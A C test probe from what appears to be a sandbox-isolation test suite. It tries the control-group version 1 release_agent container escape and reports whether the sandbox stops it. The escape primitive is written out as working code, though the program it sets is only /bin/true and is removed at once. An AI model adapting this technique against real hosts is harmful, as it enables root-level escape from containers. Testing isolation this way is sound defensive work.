/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trick: mount a version 1 hierarchy of control groups and set its release_agent (to
 * /bin/true, in a hierarchy of its own, taken away at once).
 * Gain: the kernel starts that program as root, outside, when the group is empty.
 * Expect: chroot=stops nspawn=stops container=stops sentry=own
 * Expect root: chroot=escapes
 * Layer: user namespace
 * Layer container: filter of system calls
 * Harm chroot: the hierarchy that it mounts would be the host's for a moment
 */
#include "hostile.h"

static int set_agent(void)
{
	static const char *const options[] = { "none,name=brig-hostile", "rdma", "misc" };
	int found = 1;

	(void)mkdir("/tmp/cg", 0700);
	if (unshare(CLONE_NEWNS) < 0)
		(void)unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
	(void)mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	for (size_t i = 0; i < 3 && found; i++) {
		int fd;

		if (mount("cgroup", "/tmp/cg", "cgroup", 0, options[i]) < 0)
			continue;
		fd = open("/tmp/cg/release_agent", O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "/bin/true", 9) == 9) {
			(void)!pwrite(fd, "\n", 1, 0);
			found = 0;
		}
		if (fd >= 0)
			(void)close(fd);
		(void)umount("/tmp/cg");
	}
	return found;
}

int main(void)
{
	if (in_child(set_agent) == 0)
		escaped("set the program that the kernel runs as root");
	stopped("no release_agent can be set");
}
